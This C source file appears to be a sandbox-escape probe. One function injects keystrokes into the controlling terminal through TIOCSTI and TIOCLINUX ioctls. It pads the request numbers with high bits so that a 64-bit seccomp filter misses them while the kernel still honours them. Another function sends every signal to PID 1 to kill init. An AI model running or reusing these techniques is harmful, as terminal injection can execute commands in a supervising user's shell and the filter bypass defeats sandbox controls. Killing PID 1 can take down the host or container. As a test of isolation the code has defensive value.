/* What is done to the terminal and to PID 1 from inside. */
#include "probe.h"
#include <signal.h>
#include <sys/ioctl.h>

#define TIOCLINUX_ 0x541c
#define PASTE 3

/* The kernel takes 32 bits of the request; a filter that compares 64 is passed by the last two. */
int type(const char *text) {
  unsigned long requests[] = {TIOCSTI, TIOCSTI | 1UL << 32, TIOCSTI | 1UL << 63};
  int terminal = open("/dev/tty", O_RDWR), well = 0;
  for (int stream = -1; stream < 3; stream++)
    for (int i = 0; i < 3; i++)
      for (const char *c = text; *c || c == text; c++)
        well += syscall(SYS_ioctl, stream < 0 ? terminal : stream, requests[i], c) == 0;
  char paste = PASTE;
  for (int stream = 0; stream < 3; stream++)
    well += syscall(SYS_ioctl, stream, TIOCLINUX_, &paste) == 0 || syscall(SYS_ioctl, stream, TIOCLINUX_ | 1UL << 32, &paste) == 0;
  printf("well=%d\n", well);
  return 0;
}

/* With the end of PID 1 this process ends, too. */
int storm(void) {
  for (int round = 0; round < 3; round++)
    for (int number = 1; number <= 64; number++) kill(1, number);
  usleep(100000);
  return 7;
}
